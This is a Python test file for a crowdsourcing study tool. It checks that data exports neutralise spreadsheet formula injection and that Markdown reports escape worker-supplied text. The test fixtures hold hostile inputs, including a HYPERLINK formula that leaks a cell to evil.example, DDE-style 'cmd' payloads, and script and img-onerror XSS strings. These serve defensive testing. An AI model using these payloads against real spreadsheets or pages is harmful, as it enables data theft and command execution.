"""Exports neutralise spreadsheet formulas (OWASP CSV injection) in CSV and Parquet alike, keep
numbers numeric, and the Markdown report shows worker text as text, never as HTML."""

from __future__ import annotations

import csv

import pandas as pd
import pytest
from sqlalchemy import select

from hitkit.db.models import Hit, Study
from hitkit.db.session import session_scope
from hitkit.running.scheduler import tick
from hitkit.study.loading import load_study
from hitkit.study.stored import create_study, resolve_secret
from hitkit.tables import cells
from hitkit.tables.export import export_study
from hitkit.worker import admission, flow
from tests.studies import pairwise_study

HOSTILE_WORKER = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_FEEDBACK = ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1"]


def hostile_export(tmp_path, database_url):
    """The example A/B study with submissions whose worker id and comments are formulas; its export."""
    config = load_study(pairwise_study(tmp_path, database_url))
    with session_scope(database_url) as s:
        ctx = create_study(s, config, None, resolve_secret(database_url))
        s.get(Study, ctx.study_id).status = "running"
    tick(database_url, config.study, "http://127.0.0.1:9")
    for i, (worker, feedback) in enumerate(
        [(HOSTILE_WORKER, HOSTILE_FEEDBACK[0])] + [(f"W{i}", text) for i, text in enumerate(HOSTILE_FEEDBACK[1:])]
    ):
        with session_scope(database_url) as s:
            hit = s.scalars(
                select(Hit).where(Hit.study_id == ctx.study_id, Hit.status == "posted").order_by(Hit.index)
            ).all()[i % 2]
            entry = admission.enter(
                s, ctx, hit.id, {"workerId": worker, "assignmentId": f"A{i}", "hitId": hit.provider_hit_id}
            )
            flow.consent(s, ctx, entry.token)
            for unit, question in flow.missing_answers(ctx, entry.assignment):
                flow.save_answer(s, ctx, entry.token, unit, question, "a", 12.5)
            flow.submit(s, ctx, entry.token, feedback=feedback)
    with session_scope(database_url) as s:
        return export_study(s, ctx, tmp_path / "export", "both")


def test_no_exported_text_cell_starts_a_formula_and_numbers_stay_numbers(tmp_path, database_url):
    written = hostile_export(tmp_path, database_url)
    csvs = [p for p in written if p.suffix == ".csv"]
    assert {p.stem for p in csvs} >= {"assignments", "feedback", "votes"}
    for path in csvs:
        with path.open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert cell[:1] not in cells.FORMULA_TRIGGERS or cells.neutralise_formula(cell) == cell, (
                        path.name,
                        cell,
                    )
    for path in (p for p in written if p.suffix == ".parquet"):
        for _column, values in pd.read_parquet(path).items():
            for value in values:
                assert not (isinstance(value, str) and cells.neutralise_formula(value) != value), (path.name, value)
    feedback = pd.read_parquet(tmp_path / "export" / "feedback.parquet")
    # Comments are stored stripped, so "\t=1+1" arrives as "'=1+1".
    assert sorted(feedback["feedback"]) == sorted("'" + text.strip() for text in HOSTILE_FEEDBACK)
    assert "'" + HOSTILE_WORKER in set(feedback["worker_id"])
    votes = pd.read_csv(tmp_path / "export" / "votes.csv", dtype=str)
    assert "'" + HOSTILE_WORKER in set(votes["worker_id"])  # the same id in every table: joins still work
    assignments = pd.read_parquet(tmp_path / "export" / "assignments.parquet")
    assert pd.api.types.is_float_dtype(assignments["work_time_s"])
    assert pd.api.types.is_float_dtype(pd.read_csv(tmp_path / "export" / "assignments.csv")["work_time_s"])


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+A1", "'+A1"),
        ("-A1", "'-A1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-0.50", "-0.50"),
        ("+3", "+3"),
        ("1e-3", "1e-3"),
        ("-", "'-"),
        ("'=1", "'=1"),
        ("a=1", "a=1"),
        ("", ""),
        (-2, -2),
        (1.5, 1.5),
        (None, None),
    ],
)
def test_the_neutraliser_on_plain_values(value, expected):
    assert cells.neutralise_formula(value) == expected
    assert cells.neutralise_formula(cells.neutralise_formula(value)) == expected


HOSTILE_TEXT = [
    '<img src=x onerror=alert(1)>',
    '<script>alert("x")</script>',
    '[prize](http://evil.example/)',
    '![t](http://evil.example/t.png)',
    '# Approve me',
    '- fake | row',
    '**bold** `code`',
    'A & B',
]


def test_the_markdown_report_shows_worker_text_as_text_never_as_html_or_links(tmp_path):
    from markdown_it import MarkdownIt

    from hitkit.report import ReportInput, Section, render_markdown

    workers = pd.DataFrame({"worker_id": HOSTILE_TEXT, "answers": range(len(HOSTILE_TEXT))})
    section = Section("Workers " + HOSTILE_TEXT[0], text=HOSTILE_TEXT, tables=[(HOSTILE_TEXT[2], workers)])
    markdown = render_markdown(
        ReportInput("pairwise", {}, {}, info={"study": HOSTILE_TEXT[1]}), [section], "methods", {}
    )
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)
    for tag in ("<img", "<script", "<a ", "<h1>Approve", "<strong>bold", "<code>", "<li>fake"):
        assert tag not in rendered, tag
    for text in HOSTILE_TEXT:  # each is shown, as the very text the worker typed
        shown = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
        assert shown in rendered, text
    assert rendered.count("<td>") >= 2 * len(HOSTILE_TEXT)  # still one table, one row per worker
